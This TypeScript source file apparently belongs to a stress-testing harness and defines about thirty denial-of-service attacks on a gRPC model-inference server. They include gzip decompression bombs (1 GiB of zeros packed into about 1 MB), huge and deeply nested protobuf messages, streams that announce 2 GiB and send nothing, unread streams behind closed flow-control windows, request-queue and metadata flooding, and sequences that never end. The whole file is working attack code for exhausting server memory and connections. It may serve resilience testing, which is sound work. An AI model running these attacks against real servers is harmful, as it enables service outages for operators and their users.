/** gRPC: messages that are bombs, streams that are not read, queues that only grow. */
import zlib from 'node:zlib';
import { frame } from '../../support/wire/raw-frames.js';
import { type Attack, lanes, pause, type Target, turn } from '../attack.js';
import { field, inferMessage } from '../infer-message.js';
import { call, callHeaders, FLAG, FRAME, message, RawHttp2, rpc, uint32 } from '../raw-http2.js';

const INFER = rpc('ModelInfer');
const STREAM = rpc('ModelStreamInfer');
const REFLECTION = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';
const MIB = 2 ** 20;
const NOTHING = new Uint8Array(0);

const times = <T>(count: number, make: (i: number) => T): T[] => Array.from({ length: count }, (_, i) => make(i));

/** One message, sent as a call of its own again and again; `compressed` sends it as gzip. */
function bomb(
  name: string,
  about: string,
  build: () => Uint8Array,
  options: { compressed?: boolean; raw?: boolean; count?: number } = {},
): Attack {
  return {
    name,
    about,
    async run(target) {
      const plain = build();
      const bytes = options.compressed ? (options.raw ? plain : zlib.gzipSync(plain)) : plain;
      const framed = message(bytes, options.compressed);
      const more: [string, string][] = options.compressed ? [['grpc-encoding', 'gzip']] : [];
      await lanes(target, options.count ?? 2, async () => {
        const connection = await RawHttp2.open(target);
        while (target.going() && !connection.closed) {
          const stream = await connection.call(INFER, framed, more);
          target.sent();
          while (target.going() && !connection.closed && !connection.ended.has(stream)) await pause(2);
        }
        connection.socket.destroy();
      });
    },
  };
}

/** gzip of `mebibytes` MiB of zeros without computing all of it: one flushed MiB, many times. The checksum at the end is wrong. */
function zeros(mebibytes: number): Buffer {
  const chunk = zlib.deflateRawSync(Buffer.alloc(MIB), { finishFlush: zlib.constants.Z_FULL_FLUSH });
  return Buffer.concat([
    Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]),
    ...times(mebibytes, () => chunk),
    Buffer.from([3, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
  ]);
}

const tensor = (name: string): Buffer =>
  field(5, Buffer.concat([field(1, Buffer.from(name)), field(2, Buffer.from('INT32')), Buffer.from([0x1a, 2, 1, 4])]));
const named = (...parts: Uint8Array[]): Buffer => Buffer.concat([field(1, Buffer.from('identity')), ...parts]);

/** Calls on a model, one behind the other without waiting. */
function calls(
  name: string,
  about: string,
  make: (i: number) => Uint8Array,
  options: { lanes?: number; cancel?: boolean } = {},
): Attack {
  return {
    name,
    about,
    async run(target) {
      let count = 0;
      await lanes(target, options.lanes ?? 8, async () => {
        const connection = await RawHttp2.open(target);
        while (target.going() && !connection.closed) {
          const bytes = message(make(count++));
          if (options.cancel) {
            const stream = connection.stream();
            await connection.write(
              Buffer.concat([call(stream, INFER, bytes.subarray(5)), frame(FRAME.RST_STREAM, 0, stream, uint32(8))]),
            );
          } else {
            // Not more than the server lets stand open at a time.
            while (connection.nextStream / 2 - connection.ended.size > 90 && target.going() && !connection.closed)
              await pause(1);
            await connection.call(INFER, bytes);
          }
          target.sent();
        }
        connection.socket.destroy();
      });
    },
  };
}

/** One stream that gets many messages, and is read or not. */
function stream(
  name: string,
  about: string,
  part: () => Uint8Array,
  { path, count, ...options }: { path: string; count: number; reads?: boolean; window?: number },
): Attack {
  return {
    name,
    about,
    async run(target) {
      await lanes(target, 4, async () => {
        const connection = await RawHttp2.open(
          target,
          options.window === undefined ? [] : [[4, options.window]],
          options.reads !== false,
        );
        if (options.reads === false && options.window === undefined) connection.socket.pause();
        const open = await connection.call(path, NOTHING, [], false);
        const bytes = part();
        while (target.going() && !connection.closed && !connection.ended.has(open)) {
          await connection.data(open, bytes, false);
          target.sent(count);
          await turn();
        }
        while (target.going() && !connection.closed) await pause(10);
        connection.socket.destroy();
      });
    },
  };
}

const repeat = (count: number, bytes: Uint8Array): Buffer => Buffer.concat(times(count, () => bytes));
const reflect = message(field(7, NOTHING));
const describe = message(field(4, Buffer.from('inference.GRPCInferenceService')));

/** All of them. */
export const GRPC_ATTACKS: readonly Attack[] = [
  bomb('grpc-name', 'the name of a model is 115 MB', () => field(1, Buffer.alloc(115 * MIB, 'n')), {
    compressed: true,
    count: 1,
  }),
  bomb(
    'grpc-name-bytes',
    'the name of a model is 20 MB of text that must be escaped',
    () => field(1, Buffer.alloc(20 * MIB, 'é')),
    { count: 1 },
  ),
  bomb(
    'grpc-empty-inputs',
    '90 MB of empty inputs, in 87 KB of gzip',
    () => named(Buffer.alloc(90 * MIB, field(5, NOTHING))),
    { compressed: true },
  ),
  bomb(
    'grpc-empty-outputs',
    '90 MB of empty requested outputs, in 87 KB of gzip',
    () => named(Buffer.alloc(90 * MIB, field(6, NOTHING))),
    { compressed: true },
  ),
  bomb(
    'grpc-empty-raw',
    '90 MB of empty raw contents, in 87 KB of gzip',
    () => named(Buffer.alloc(90 * MIB, field(7, NOTHING))),
    { compressed: true },
  ),
  bomb(
    'grpc-empty-strings',
    '90 MB of empty strings within one tensor',
    () => {
      const contents = Buffer.alloc(90 * MIB, field(8, NOTHING));
      return named(
        field(5, Buffer.concat([field(1, Buffer.from('INPUT0')), field(2, Buffer.from('BYTES')), field(5, contents)])),
      );
    },
    { compressed: true },
  ),
  bomb(
    'grpc-varints',
    '60 MB of numbers of one byte each',
    () => {
      const contents = field(2, Buffer.alloc(60 * MIB, 1));
      return named(
        field(
          5,
          Buffer.concat([
            field(1, Buffer.from('INPUT0')),
            field(2, Buffer.from('INT32')),
            Buffer.from([0x1a, 2, 1, 4]),
            field(5, contents),
          ]),
        ),
      );
    },
    { compressed: true },
  ),
  bomb('grpc-inputs', '40,000 inputs of one name', () => named(...times(40_000, () => tensor('a')))),
  bomb('grpc-inputs-whole', '40,000 inputs of different names', () => named(...times(40_000, (i) => tensor(`n${i}`)))),
  bomb('grpc-parameters', '200,000 parameters', () =>
    named(
      ...times(200_000, (i) =>
        field(4, Buffer.concat([field(1, Buffer.from(`k${i}`)), field(2, Buffer.from([8, 1]))])),
      ),
    ),
  ),
  bomb('grpc-rank', 'a shape of four million dimensions', () =>
    named(
      field(
        5,
        Buffer.concat([
          field(1, Buffer.from('INPUT0')),
          field(2, Buffer.from('INT32')),
          field(3, Buffer.alloc(4 * MIB, 2)),
        ]),
      ),
      field(7, NOTHING),
    ),
  ),
  bomb(
    'grpc-unknown-fields',
    '60 MB of unknown fields, groups within groups',
    () =>
      Buffer.concat([
        named(),
        Buffer.alloc(30 * MIB, Buffer.from([0x9b, 1])),
        Buffer.alloc(30 * MIB, Buffer.from([0x98, 1])),
      ]),
    { compressed: true },
  ),
  bomb('grpc-gzip', 'messages of 1 GiB of zeros, in 1 MB of gzip', () => zeros(1024), {
    compressed: true,
    raw: true,
    count: 4,
  }),
  {
    name: 'grpc-announced',
    about: 'calls on many streams that announce messages of 2 GiB and send nothing of them',
    async run(target) {
      await lanes(target, 50, async () => {
        const connection = await RawHttp2.open(target);
        for (let i = 0; i < 100 && target.going() && !connection.closed; i++) {
          await connection.call(INFER, message(NOTHING, false, 0x7fffffff), [], false);
          target.sent();
        }
        while (target.going() && !connection.closed) await pause(20);
        connection.socket.destroy();
      });
    },
  },
  stream('grpc-reflection', 'reflection asked without end, not read', () => repeat(400, describe), {
    path: REFLECTION,
    count: 400,
    reads: false,
  }),
  stream('grpc-reflection-window', 'reflection behind a closed window', () => repeat(400, reflect), {
    path: REFLECTION,
    count: 400,
    reads: false,
    window: 0,
  }),
  stream('grpc-empty-messages', 'empty messages on one stream', () => repeat(3000, message(NOTHING)), {
    path: STREAM,
    count: 3000,
  }),
  stream(
    'grpc-stream-errors',
    'a stream whose requests fail, errors not read',
    () => repeat(500, message(inferMessage('no-such-model'))),
    { path: STREAM, count: 500, reads: false, window: 0 },
  ),
  stream(
    'grpc-stream-not-read',
    'a stream of small inferences behind a closed window',
    () => repeat(200, message(inferMessage('identity'))),
    { path: STREAM, count: 200, reads: false, window: 0 },
  ),
  stream(
    'grpc-stream-large',
    'a stream of 256 KB inferences that is not read',
    () => message(inferMessage('wide', 65536)),
    { path: STREAM, count: 1, reads: false },
  ),
  stream('grpc-health-watch', 'watches of the health, not read', () => message(NOTHING), {
    path: '/grpc.health.v1.Health/Watch',
    count: 1,
    reads: false,
    window: 0,
  }),
  {
    name: 'grpc-unary-not-read',
    about: 'unary inferences of 1 MB whose responses wait behind closed windows, with a deadline of 100 ms',
    async run(target: Target) {
      await lanes(target, 10, async () => {
        const connection = await RawHttp2.open(target, [[4, 0]], false);
        for (let i = 0; i < 100 && target.going() && !connection.closed; i++) {
          await connection.call(INFER, message(inferMessage('wide', 2 ** 18)), [['grpc-timeout', '100m']]);
          target.sent();
        }
        while (target.going() && !connection.closed) await pause(20);
        connection.socket.destroy();
      });
    },
  },
  calls('grpc-queue', 'requests of 1 MB into a queue that waits', () => inferMessage('waiting', 2 ** 18), {
    lanes: 20,
  }),
  calls('grpc-queue-small', 'small requests into a queue that waits', () => inferMessage('waiting'), { lanes: 20 }),
  calls('grpc-cancel', 'requests that are cancelled at once', () => inferMessage('queued'), { cancel: true }),
  calls('grpc-sequences', 'sequences that begin and never end', (i) =>
    inferMessage('sequence', 4, { sequence_id: BigInt(i + 1), sequence_start: true }),
  ),
  calls('grpc-sequences-large', 'sequences with 1 MB each that wait for a slot', (i) =>
    inferMessage('sequence_wide', 2 ** 18, { sequence_id: BigInt(i + 1), sequence_start: true }),
  ),
  {
    name: 'grpc-metadata',
    about: 'calls with 7 KB of metadata, in ever new names',
    async run(target) {
      let count = 0;
      await lanes(target, 4, async () => {
        const connection = await RawHttp2.open(target);
        while (target.going() && !connection.closed) {
          const id = connection.stream();
          const block = callHeaders(rpc('ServerLive'), [[`x-${count++}`, 'v'.repeat(7000)]]);
          await connection.write(
            Buffer.concat([
              frame(FRAME.HEADERS, FLAG.END_HEADERS, id, block),
              frame(FRAME.DATA, FLAG.END_STREAM, id, message(NOTHING)),
            ]),
          );
          target.sent();
          if (count % 20 === 0) await turn();
        }
        connection.socket.destroy();
      });
    },
  },
];
